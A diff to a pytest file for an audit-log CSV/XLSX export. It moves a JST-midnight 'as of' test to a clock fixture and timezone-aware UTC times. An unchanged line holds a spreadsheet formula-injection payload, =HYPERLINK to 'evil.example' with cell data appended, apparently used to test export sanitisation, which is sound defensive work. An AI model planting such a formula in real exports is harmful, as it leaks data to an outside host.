@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import datetime
+from datetime import datetime, timezone
 from urllib.parse import unquote
 
 import pytest
@@ -14,7 +14,7 @@ from sqlalchemy import select
 from portal.audit.models import AuditEvent
 from portal.audit.services import record_event
 from portal.extensions import db
-from tests.audit_fixtures import add_events, at
+from tests.audit_fixtures import add_events
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -103,12 +103,14 @@ def test_export_honours_the_filter(client, auditor):
     assert [r[6] for r in rows[1:]] == ["auth.login_failed"] * 2
 
 
-def test_evidence_as_of_a_date_ends_at_that_jst_midnight(client, monkeypatch, auditor):
-    for moment in (datetime(2026, 11, 30, 14, 59, 59), datetime(2026, 11, 30, 15, 0, 0)):  # 23:59:59 / 00:00 JST
-        at(monkeypatch, moment)
+def test_evidence_as_of_a_date_ends_at_that_jst_midnight(client, clock, auditor, login):
+    for moment in (datetime(2026, 11, 30, 14, 59, 59, tzinfo=timezone.utc),  # 23:59:59 JST
+                   datetime(2026, 11, 30, 15, 0, 0, tzinfo=timezone.utc)):   # 00:00 JST on 12/1
+        clock.set(moment)
         record_event(None, "test.dated", reason=moment.isoformat())
     db.session.commit()
-    monkeypatch.undo()
+    clock.set(datetime(2026, 12, 1, 1, 0, tzinfo=timezone.utc))  # the exports are made on 12/1 (JST)
+    login(auditor)  # the session begun at the clock's start has long expired
     as_of = {"as_of_year": "2026", "as_of_month": "11", "as_of_day": "30"}
     _, data = _download(client, "/audit/export.csv", **as_of)
     assert [r[0] for r in _csv_rows(data)[1:]] == ["1", "2"]
@@ -117,7 +119,8 @@ def test_evidence_as_of_a_date_ends_at_that_jst_midnight(client, monkeypatch, au
     response, data = _download(client, "/audit/export.xlsx", as_of_year="2026", as_of_month="12", as_of_day="1")
     workbook = load_workbook(io.BytesIO(data))
     try:
-        assert [row[0].value for row in workbook["監査ログ"].iter_rows(min_row=2)] == [1, 2, 3, 4]
+        # sign-in (4/1), the two dated events, the second sign-in and the CSV export (both 12/1)
+        assert [row[0].value for row in workbook["監査ログ"].iter_rows(min_row=2)] == [1, 2, 3, 4, 5]
     finally:
         workbook.close()
 
